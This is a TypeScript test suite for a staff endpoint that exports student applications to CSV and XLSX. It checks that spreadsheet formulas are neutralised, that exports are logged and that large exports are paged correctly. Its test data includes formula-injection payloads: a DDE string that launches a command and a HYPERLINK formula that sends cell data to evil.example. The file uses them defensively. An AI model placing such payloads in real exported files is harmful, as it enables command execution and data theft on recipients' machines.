import { parse } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import { sql } from 'kysely';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { testApi } from '../../../tests/support/api.ts';
import { applied } from '../../../tests/support/applications.ts';
import type { TestPerson } from '../../../tests/support/people.ts';

/** Exports of cases as a table for a spreadsheet. */

const api = await testApi();
const { db } = api.handle;
let office: TestPerson;
let asha: TestPerson;
beforeAll(async () => {
  asha = await api.user('asha@example.com');
  office = await api.staff('office@example.com');
});
beforeEach(async () => {
  await db.deleteFrom('applications').execute();
});

describe('the table for spreadsheets', () => {
  const FORMULAS = [
    '=1+1',
    '+9779800000000',
    '-2+3',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '＝1+1',
    'a,"b";c',
    'राई',
  ];
  const table = async (query = '') => {
    const answer = await api.get(`/api/staff/applications/export/${query}`, await api.prove(office));
    expect(answer.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('Content-Disposition')).toMatch(/^attachment; filename=applications\.csv$/);
    const text = (answer.body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    return parse<Record<string, string>>(text, { bom: true, columns: true });
  };

  it('has every matching application and no formula', async () => {
    for (const formula of FORMULAS) {
      await applied(api, asha, [
        ['first_name', formula],
        ['contact', formula.slice(0, 40)],
        ['preferred_course', formula],
      ]);
      api.clock.advance({ seconds: 1 });
    }
    const [last] = (await table()).slice(0, 1);
    expect(last).toMatchObject({
      'First name': 'राई',
      State: 'Submitted',
      Documents: '1',
      'Submitted (Nepal time)': expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/),
    });
    const cells = (await table()).flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@＝＋－＠\r\n]/.test(cell))).toEqual([]);
    expect((await table()).map((row) => row['First name']!.trimStart()).toReversed()).toEqual(FORMULAS);
    expect(await table('?state=closed')).toEqual([]);
    expect((await api.get('/api/staff/applications/export/?state=x', await api.prove(office))).status).toBe(
      400,
    );
    const exported = await db
      .selectFrom('change_log')
      .select('actor_id')
      .where('object', '=', 'applications')
      .execute();
    expect(exported.length).toBeGreaterThan(0);
    expect(exported.every(({ actor_id }) => actor_id !== null)).toBe(true);
  });

  it('is also offered as a workbook with typed cells, with country, intake and score', async () => {
    await applied(api, asha, [
      ['first_name', '=1+1'],
      ['contact', '+9779800000000'],
      ['test_type', 'IELTS'],
      ['overall_score', '6.5'],
    ]);
    const answer = await api.get('/api/staff/applications/export/?format=xlsx', await api.prove(office));
    expect(answer.headers.get('Content-Disposition')).toMatch(/filename=applications\.xlsx$/);
    const { sheets } = await readXlsx(answer.body as Buffer);
    const [titles, cells] = sheets[0]!.rows as [string[], unknown[]];
    const row = Object.fromEntries(titles.map((title, at) => [title, cells[at]]));
    expect(row).toMatchObject({
      'First name': '=1+1',
      'Mobile number': '+9779800000000',
      'Submitted (Nepal time)': expect.any(Date) as Date,
      Test: 'IELTS',
      Score: 6.5,
      Documents: 1,
    });
    expect(titles).toEqual(expect.arrayContaining(['Country', 'Course', 'Intake']));
    expect((await table())[0]).toMatchObject({ 'Mobile number': '\t+9779800000000', Score: '6.5' });
    const wrong = await api.get('/api/staff/applications/export/?format=pdf', await api.prove(office));
    expect(wrong).toMatchObject({ status: 400, body: { format: [expect.stringContaining('pdf')] } });
  });

  it('has each row once when the rows are read in several parts', async () => {
    const { id } = await applied(api, asha);
    await sql`insert into applications (reference, user_id, state, consent_version, consent_at, submitted_at, state_changed_at)
      select 'PR-' || n, user_id, state, consent_version, consent_at,
        submitted_at + (n / 7) * interval '1 second', state_changed_at
      from applications, generate_series(1, 1200) n where id = ${id}`.execute(db);
    const references = (await table()).map((row) => row['Reference']);
    expect(references).toHaveLength(1201);
    expect(new Set(references).size).toBe(1201);
  });
});
